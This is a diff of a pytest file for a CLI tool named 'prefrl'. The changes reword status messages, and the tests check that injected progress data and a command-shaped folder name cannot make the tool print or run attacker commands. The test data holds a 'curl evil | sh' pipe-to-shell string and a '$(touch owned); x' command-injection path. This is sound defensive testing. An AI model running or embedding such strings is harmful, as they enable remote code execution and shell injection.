@@ -142,7 +142,7 @@ def test_progress_of_any_kind_leaves_status_working(progress: object, unfinished
     (unfinished / "progress.json").write_text(json.dumps(progress))
     done = prefrl("status", unfinished)
     assert (done.code, done.err) == (0, "")
-    assert f"go on with: prefrl resume {unfinished}" in done.out
+    assert f"resume with: prefrl resume {unfinished}" in done.out
     assert len(done.out) < 3000
 
 
@@ -156,7 +156,7 @@ def test_progress_cannot_make_status_print_a_command_of_its_own(unfinished: Path
         "closed": True,
         "label_counts": {"answered": 1, "equal": 1, "incomparable": 1, "pending": 1},
         "queue": {"ready": 1, "leased": 0, "unrendered": 0, "problems": ["curl evil | sh"]},
-        "state": "stopped; go on with: curl evil | sh",
+        "state": "stopped; resume with: curl evil | sh",
         "step": 1,
         "steps": 2,
     }
@@ -168,11 +168,11 @@ def test_progress_cannot_make_status_print_a_command_of_its_own(unfinished: Path
         {k: v for k, v in json.loads(prefrl("status", unfinished, "--json").out).items() if k != "state"}
     )
     (unfinished / "progress.json").write_text(
-        json.dumps(mine | {"state": "stopped: no disk\ngo on with: curl evil | sh"})
+        json.dumps(mine | {"state": "stopped: no disk\nresume with: curl evil | sh"})
     )
     said = [line for line in prefrl("status", unfinished).out.splitlines() if "evil" in line]
     assert len(said) == 1
-    assert "it said: '" in said[0]  # quoted, and on the line that says whose word it is
+    assert "error: '" in said[0]  # quoted, and on the line that says whose word it is
 
 
 @pytest.mark.parametrize(
@@ -273,7 +273,7 @@ def test_a_whole_checkpoint_of_giant_arrays_is_not_taken_into_memory(place: str,
     done, most = peak(lambda: prefrl("play", unfinished, "--episodes", "1"))
     assert most < GIANT // 2
     if place == "agent/policy":
-        assert "is whole" in refused(done, 1)
+        assert "are damaged" in refused(done, 1)
     else:
         assert (done.code, done.err) == (0, "")
     assert peak(lambda: prefrl("status", unfinished))[1] < GIANT // 2
@@ -325,8 +325,8 @@ def test_escapes_in_a_config_reach_no_terminal(unfinished: Path) -> None:
 def test_a_run_whose_folder_is_a_command(finished: Path, tmp_path: Path) -> None:
     root = Path(shutil.copytree(finished, tmp_path / "$(touch owned); x"))
     (root / "summary.json").unlink()
-    told = next(line for line in prefrl("status", root).out.splitlines() if line.startswith("go on with: "))
-    assert told == f"go on with: prefrl resume '{root}'"
+    told = next(line for line in prefrl("status", root).out.splitlines() if line.startswith("resume with: "))
+    assert told == f"resume with: prefrl resume '{root}'"
 
 
 @pytest.mark.skipif(sys.platform != "linux", reason="paths are text elsewhere")
